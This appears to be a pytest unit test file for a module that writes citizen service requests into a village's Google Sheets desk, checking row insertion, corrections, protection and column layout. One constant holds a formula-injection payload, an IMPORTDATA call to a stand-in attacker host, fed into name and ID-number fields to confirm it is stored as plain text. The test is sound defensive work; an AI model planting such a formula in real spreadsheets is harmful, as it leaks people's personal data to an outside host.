"""How changes are said to the Sheets API."""

from collections.abc import Iterator
from typing import Any

import pytest

from office.cases import Decision
from sheets_sync import batch
from sheets_sync.columns import BY_SCRIPT, HEADERS, LOOKS, Column, find
from sheets_sync.desk import Write, projection
from tests.unit.builders import JAKARTA, SKU, arrival, dossier

FORMULA = '=IMPORTDATA("https://evil.example/" & A2)'


def entered(thing: object) -> Iterator[dict[str, Any]]:
    """Every value that these requests put into a cell."""
    if isinstance(thing, dict):
        if "userEnteredValue" in thing and isinstance(thing["userEnteredValue"], dict):
            yield thing["userEnteredValue"]
        for below in thing.values():
            yield from entered(below)
    elif isinstance(thing, list):
        for below in thing:
            yield from entered(below)


def evil_cells() -> dict[Column, str]:
    evil = dict.fromkeys(("Nama Lengkap", "Keperluan", "KTP", "Nomor/Username Telegram"), FORMULA)
    return projection(dossier(arrival("", evil), chat_id=None), SKU, JAKARTA)


@pytest.mark.parametrize(
    "requests",
    [
        batch.new_rows([evil_cells()]),
        batch.put_right([Write(3, column, "SKU-1", text) for column, text in evil_cells().items()]),
        batch.put_right_in_book({2: (FORMULA,) * 7}, [(FORMULA,) * 7]),
        batch.new_desk(),
    ],
    ids=["new rows", "corrections", "book", "desk"],
)
def test_whatever_a_citizen_wrote_goes_as_plain_text(requests: list[batch.Request]) -> None:
    """An answer that looks like a formula is never one: every value is a string, none a formula, number or truth."""
    assert {tuple(value) for value in entered(requests)} <= {("stringValue",)}


def test_formulas_were_among_them() -> None:
    """Else the test above would prove nothing."""
    texts = [value["stringValue"] for value in entered(batch.new_rows([evil_cells()]))]
    assert FORMULA in texts


def test_new_rows_come_on_top_below_the_header() -> None:
    """The first given stands highest; people's cells are not touched."""
    first, second = (projection(dossier(key=key), SKU, JAKARTA) for key in ("SKU-1", "SKU-2"))
    insert, write, *others = batch.new_rows([first, second])
    assert insert["insertDimension"]["range"] == {
        "sheetId": batch.DESK_TAB, "dimension": "ROWS", "startIndex": 1, "endIndex": 3,
    }  # fmt: skip
    assert insert["insertDimension"]["inheritFromBefore"] is False
    body = write["updateCells"]
    assert body["start"] == {"sheetId": batch.DESK_TAB, "rowIndex": 1, "columnIndex": Column.NAME}
    assert [len(line["values"]) for line in body["rows"]] == [Column.STATUS - Column.NAME + 1] * 2
    body = others[0]["updateCells"]
    assert [
        line["values"][Column.KEY - Column.ANSWERS]["userEnteredValue"]["stringValue"] for line in body["rows"]
    ] == [
        "SKU-1",
        "SKU-2",
    ]


def test_nothing_new_asks_for_nothing() -> None:
    """No empty insertion."""
    assert batch.new_rows([]) == []
    assert batch.put_right([]) == []


def test_a_correction_names_one_cell() -> None:
    """An empty text empties it."""
    (one, other) = batch.put_right([Write(4, Column.STATUS, "SKU-1", "Selesai"), Write(5, Column.NUMBER, "SKU-2", "")])
    assert one["updateCells"] == {
        "rows": [{"values": [{"userEnteredValue": {"stringValue": "Selesai"}}]}],
        "start": {"sheetId": batch.DESK_TAB, "rowIndex": 4, "columnIndex": 4},
        "fields": "userEnteredValue",
    }
    assert other["updateCells"]["rows"] == [{"values": [{}]}]


def of_kind(requests: list[batch.Request], kind: str) -> list[dict[str, Any]]:
    return [request[kind] for request in requests if kind in request]


def test_a_new_desk_explains_itself() -> None:
    """Headers with notes, first row frozen, every column text and as wide as its look."""
    requests = batch.new_desk()
    (sheet,) = of_kind(requests, "addSheet")
    assert sheet["properties"]["gridProperties"]["frozenRowCount"] == 1
    (head,) = of_kind(requests, "updateCells")
    cells = head["rows"][0]["values"]
    assert [cell["userEnteredValue"]["stringValue"] for cell in cells] == list(HEADERS)
    assert all(cell["note"] for cell in cells)
    lines = of_kind(requests, "updateDimensionProperties")
    widths = [body["properties"]["pixelSize"] for body in lines if "pixelSize" in body["properties"]]
    hidden = [body["range"]["startIndex"] for body in lines if body["properties"] == {"hiddenByUser": True}]
    assert hidden == [Column.CHAT, Column.ORIGIN]
    assert widths == [*(look.width for look in LOOKS.values())]
    assert of_kind(requests, "repeatCell")[0]["cell"]["userEnteredFormat"]["numberFormat"] == {"type": "TEXT"}


def test_the_dropdown_offers_every_decision_and_nothing_else() -> None:
    """What is not in the list cannot be typed."""
    (body,) = of_kind(batch.new_desk(), "setDataValidation")
    assert [value["userEnteredValue"] for value in body["rule"]["condition"]["values"]] == [
        str(one) for one in Decision
    ]
    assert body["rule"]["strict"] is True
    assert body["range"] == {
        "sheetId": batch.DESK_TAB, "startRowIndex": 1, "startColumnIndex": Column.DECISION, "endColumnIndex": 1,
    }  # fmt: skip


def test_people_are_warned_off_the_scripts_cells() -> None:
    """Warned, not locked out; their own columns are free below the header."""
    header, *spans = [body["protectedRange"] for body in of_kind(batch.new_desk(), "addProtectedRange")]
    assert {body["warningOnly"] for body in (header, *spans)} == {True}
    assert header["range"] == {"sheetId": batch.DESK_TAB, "endRowIndex": 1}
    ends = [(body["range"]["startColumnIndex"], body["range"]["endColumnIndex"]) for body in spans]
    assert [column for start, end in ends for column in range(start, end)] == list(BY_SCRIPT)


def test_named_accounts_lock_everybody_else_out() -> None:
    """Where the village names them: the script's own account is one of them."""
    editors = ["bot@contoh.iam", "kades@contoh.id"]
    bodies = [body["protectedRange"] for body in of_kind(batch.new_desk(editors=editors), "addProtectedRange")]
    assert [body["editors"] for body in bodies] == [{"users": editors}] * len(bodies)
    assert not any("warningOnly" in body for body in bodies)


def test_writes_follow_moved_columns() -> None:
    """People put Status first and a column of their own between."""
    layout = find(["Status", "Paraf", *(title for title in HEADERS if title != "Status")])
    (write,) = batch.put_right([Write(4, Column.STATUS, "SKU-1", "Selesai")], layout)
    assert write["updateCells"]["start"]["columnIndex"] == 0
    _, *writes = batch.new_rows([projection(dossier(), SKU, JAKARTA)], layout)
    starts = [body["start"]["columnIndex"] for body in of_kind(writes, "updateCells")]
    assert starts == [layout.place(run[0]) for run in layout.runs(BY_SCRIPT)]
    assert 1 not in [place for run in layout.runs(BY_SCRIPT) for place in map(layout.place, run)]


def test_only_services_that_need_it_get_a_tick_box() -> None:
    """And a row does not keep the box of the row below."""
    first, second = (projection(dossier(key=key), SKU, JAKARTA) for key in ("SKU-1", "SKU-2"))
    boxes = of_kind(batch.new_rows([first, second], with_tick=["SKU-2"]), "setDataValidation")
    assert [body.get("rule", {}).get("condition") for body in boxes] == [None, {"type": "BOOLEAN"}]
    assert [body["range"]["startRowIndex"] for body in boxes] == [1, 2]


def test_a_column_that_is_gone_comes_back_at_the_end() -> None:
    """The grid grows where it has to."""
    wider, head, *_ = batch.column_again(Column.DECISION, place=17, width=17)
    assert wider["appendDimension"] == {"sheetId": batch.DESK_TAB, "dimension": "COLUMNS", "length": 1}
    assert head["updateCells"]["start"]["columnIndex"] == 17
    assert not of_kind(batch.column_again(Column.NEWS, place=16, width=17), "appendDimension")
    assert of_kind(batch.column_again(Column.DECISION, place=16, width=17), "setDataValidation")


def test_digit_columns_of_a_form_are_kept_as_text() -> None:
    """The whole column below the header, its answers untouched."""
    (one, other) = batch.keep_as_text(7, [3, 8])
    assert one["repeatCell"]["range"] == {
        "sheetId": 7, "startRowIndex": 1, "startColumnIndex": 3, "endColumnIndex": 4,
    }  # fmt: skip
    assert one["repeatCell"]["fields"] == "userEnteredFormat.numberFormat"
    assert other["repeatCell"]["range"]["startColumnIndex"] == 8
